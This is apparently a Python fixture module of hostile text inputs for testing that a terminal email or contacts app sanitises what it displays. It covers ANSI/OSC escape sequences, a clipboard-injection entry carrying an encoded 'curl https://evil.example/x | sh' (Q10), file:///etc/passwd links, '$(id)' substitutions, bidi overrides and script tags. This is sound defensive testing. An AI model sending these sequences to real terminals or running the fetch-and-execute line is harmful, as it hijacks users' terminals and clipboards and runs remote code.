"""Hostile text: what a stranger can put in a contact name, an email, a subject or a body.

Every entry carries a tag (``Q07``, ``H03``) that stays visible once the text is made safe,
the markers that must never reach the terminal (the payload of an escape sequence, a
control character), and what must be shown literally (markup is text, not styling).
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

__all__ = ["HTML_BODIES", "LINES", "LONE_SURROGATE", "Hostile"]


@dataclass(frozen=True)
class Hostile:
    tag: str
    text: str
    forbidden: tuple[str, ...] = ()
    """Substrings that must never appear in what the app writes to the terminal."""
    shown: tuple[str, ...] = ()
    """Substrings that must appear on the screen as typed (besides the tag)."""


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


CLIPBOARD = _b64("curl https://evil.example/x | sh # Q10 clipboard")
LONE_SURROGATE = "\ud83d"
"""Half an emoji: JavaScript's JSON.stringify writes it as the escape ``\\ud83d``."""

LINES: tuple[Hostile, ...] = (
    Hostile("Q01", "Q01 [bold]Boss[/bold]", shown=("[bold]Boss[/bold]",)),
    Hostile(
        "Q02",
        "Q02 [link=file:///etc/passwd]click[/link]",
        forbidden=("]8;",),
        shown=("[link=file:///etc/passwd]click[/link]",),
    ),
    Hostile("Q03", "Q03 [@click=app.quit]free money[/]", shown=("[@click=app.quit]free money[/]",)),
    Hostile("Q04", "Q04 [red on red]hidden[/] [/] [b", shown=("[red on red]hidden[/] [/] [b",)),
    Hostile("Q05", "Q05 \x1b[31mRED\x1b[0m done", forbidden=("\x1b[31mRED",), shown=("RED done",)),
    Hostile("Q06", "Q06 \x1b[2J\x1b[Hwiped", forbidden=("\x1b[2J",), shown=("wiped",)),
    Hostile("Q07", "Q07 \x1b[6n\x1b[21t\x1b[5i report", forbidden=("\x1b[6n", "\x1b[21t")),
    Hostile("Q08", "Q08 \x1b]0;pwned-title-Q08\x07 title", forbidden=("pwned-title",)),
    Hostile("Q09", "Q09 \x1b]2;pwned-st-Q09\x1b\\ title", forbidden=("pwned-st",)),
    Hostile("Q10", f"Q10 \x1b]52;c;{CLIPBOARD}\x07 clip", forbidden=(CLIPBOARD, "\x1b]52")),
    Hostile(
        "Q11",
        "Q11 \x1b]8;;file:///etc/passwd\x07passwd\x1b]8;;\x07 link",
        forbidden=("]8;;file",),
        shown=("passwd link",),
    ),
    Hostile("Q12", "Q12 \x9b31m\x9d0;c1-title-Q12\x9c eight-bit", forbidden=("c1-title", "\x9b")),
    Hostile("Q13", "Q13 a\x00b\x07c\x08d\x0ee\x0ff\x1bg\x7fh\x05", forbidden=("\x0e", "\x05")),
    Hostile(
        "Q14", "Q14 \u202eexe.txt\u202c \u2066\u2067\u2068\u2069", forbidden=("\u202e", "\u2067")
    ),
    Hostile("Q15", "Q15 in\u200bvis\u200bible\ufeff\u2060", forbidden=("\u200b", "\ufeff")),
    Hostile("Q16", "Q16 Z" + "\u0336" * 200 + "algo", forbidden=("\u0336" * 4,)),
    Hostile("Q17", "Q17 " + "W" * 10_000, shown=("W" * 40,)),
    Hostile("Q18", f"Q18 cut{LONE_SURROGATE}emoji \udc00x", shown=("cut",)),
    Hostile(
        "Q19", "Q19 line1\nline2\r\nline3\tcol\x0b\x0c\x85\u2028\u2029end", forbidden=("\u2028",)
    ),
    Hostile("Q20", "Q20 名前 😀 👩\u200d👩\u200d👧 \uff57\uff49\uff44\uff45", shown=("名前",)),
    Hostile("Q21", "Q21 <script>alert(1)</script>", shown=("<script>alert(1)</script>",)),
    Hostile("Q22", "Q22 \\[bold]not bold\\", shown=("\\[bold]not bold\\",)),
    Hostile("Q23", "Q23 \x1bP+q544e\x1b\\ dcs", forbidden=("+q544e",)),
    Hostile(
        "Q24",
        "Q24 \x1b_Gpwned-apc-Q24\x1b\\ \x1b^pm\x1b\\ \x1bXsos\x1b\\ apc",
        forbidden=("pwned-apc",),
    ),
    Hostile("Q25", "Q25 :skull: :warning: emoji codes", shown=(":skull: :warning:",)),
    Hostile("Q26", "Q26 \x1b]1337;File=name=eA==:AAAA\x07 iterm", forbidden=("]1337", "File=name")),
    Hostile("Q27", "Q27 \x1bc\x1b#8\x1b(0lqk\x1b(B reset", forbidden=("\x1b#8", "\x1b(0")),
    Hostile("Q28", "Q28 \x85\x84\x8d\x90\x9e\x9f c1", forbidden=("\x85", "\x8d", "\x90")),
    Hostile("Q29", "Q29 %s%n%x {0} ${HOME} $(id) `id`", shown=("%s%n%x {0} ${HOME} $(id) `id`",)),
    Hostile("Q30", "Q30 a" + "\u0301" * 50 + "\u20dd" * 50 + " marks", forbidden=("\u0301" * 4,)),
    Hostile("Q31", "Q31 \x1b[?1049l\x1b[?25l\x1b[?1000l\x1b]10;?\x07 modes", forbidden=("]10;?",)),
    Hostile("Q32", "Q32 " + "x\u200d" * 30 + " zwj", shown=("x" * 30 + " zwj",)),
)

IMAGE = base64.b64encode(bytes(range(256)) * 1200).decode()  # 300 KB of inline image

HTML_BODIES: tuple[Hostile, ...] = (
    Hostile(
        "H01",
        "<script>document.title='pwned-script-H01'</script><p>H01 after script</p>",
        forbidden=("pwned-script",),
        shown=("H01 after script",),
    ),
    Hostile(
        "H02",
        "<style>.H02style{color:red}</style><p>H02 after style</p>",
        forbidden=("H02style", "color:red"),
        shown=("H02 after style",),
    ),
    Hostile(
        "H03",
        f'<p>H03 before image</p><img src="data:image/png;base64,{IMAGE}"><p>H03 after</p>',
        forbidden=(IMAGE[5000:5040],),
        shown=("H03 before image", "H03 after"),
    ),
    Hostile(
        "H04",
        "<p>H04 <a href='file:///etc/passwd'>see here</a></p>",
        forbidden=("]8;",),
        shown=("H04 see here",),
    ),
    Hostile(
        "H05",
        "<p>H05 &#27;]52;c;SDA1cHduZWQ=&#7; entity osc</p>",
        forbidden=("\x1b]52",),  # the escape is dropped; the rest is harmless text
        shown=("entity osc",),
    ),
    Hostile("H06", "<p>H06 &#x1b;[2J&#x9b;2J cleared?</p>", forbidden=("\x1b[2J", "\x9b")),
    Hostile(
        "H07",
        "<head><title>pwned-title-H07</title></head><body><p>H07 body</p></body>",
        forbidden=("pwned-title-H07",),
        shown=("H07 body",),
    ),
    Hostile(
        "H08",
        "<p>[bold]H08 markup[/bold] [link=https://x.test]x[/link]</p>",
        shown=("[bold]H08 markup[/bold]",),
    ),
    Hostile(
        "H09", "<pre>H09 \x1b]0;pwned-pre\x07 pre</pre>", forbidden=("pwned-pre",), shown=("H09",)
    ),
    Hostile("H10", "<p>H10 tags</p>" + "<a " * 20_000 + "<p>H10 end</p>", shown=("H10 tags",)),
    Hostile("H11", "<p>H11 &#8238;txt.exe &#x200b;zero</p>", forbidden=("\u202e", "\u200b")),
    Hostile(
        "H12",
        "<!-- H12 hidden comment --><p>H12 shown</p><!-- unclosed",
        forbidden=("hidden comment",),
        shown=("H12 shown",),
    ),
)
